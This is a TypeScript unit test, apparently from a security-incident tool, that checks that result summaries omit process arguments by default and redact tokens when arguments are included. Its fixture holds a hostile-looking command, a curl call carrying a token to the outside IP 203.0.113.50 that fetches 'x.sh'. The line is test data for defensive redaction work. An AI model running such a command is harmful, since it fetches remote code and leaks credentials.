// The results topic carries a summary of the report; arguments only when the policy asks.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { createRuntime } from '../../functions/composition/runtime.js';
import { handleMessage } from '../../shared/respond/handle.js';
import { resultSummary } from '../../shared/respond/result-summary.js';
import { RESULT_SCHEMA } from '../../shared/record/result-publisher.js';

test('summary without arguments by default, redacted arguments when the policy asks', async () => {
  const n = JSON.parse(readFileSync(new URL('../fixtures/modified-malicious-binary.v1.json', import.meta.url), 'utf8')) as { finding: { processes: { args: string[] }[] } };
  n.finding.processes[0]!.args = ['/usr/bin/curl', '--token', 'tok123456789', 'http://203.0.113.50/x.sh'];
  const runtime = createRuntime({ surface: 'cli', adapters: {}, auditDestination: { write: () => undefined }, env: { LOG_LEVEL: 'error' } });
  const r = await handleMessage(n, runtime);
  assert.ok(r.report);
  const plain = resultSummary(r.report, { includeArguments: false }) as { schema: string; finding: Record<string, unknown>; outcome: unknown };
  assert.equal(plain.schema, RESULT_SCHEMA);
  assert.equal(plain.finding['args'], undefined);
  assert.equal(plain.finding['argsCount'], 4);
  assert.deepEqual(plain.outcome, r.report.outcome);
  assert.ok(!JSON.stringify(plain).includes('x.sh'), 'no argument text at all');
  const withArgs = resultSummary(r.report, { includeArguments: true }) as { finding: { args?: string[] } };
  assert.deepEqual(withArgs.finding.args, ['/usr/bin/curl', '--token', '[REDACTED]', 'http://203.0.113.50/x.sh']);
});
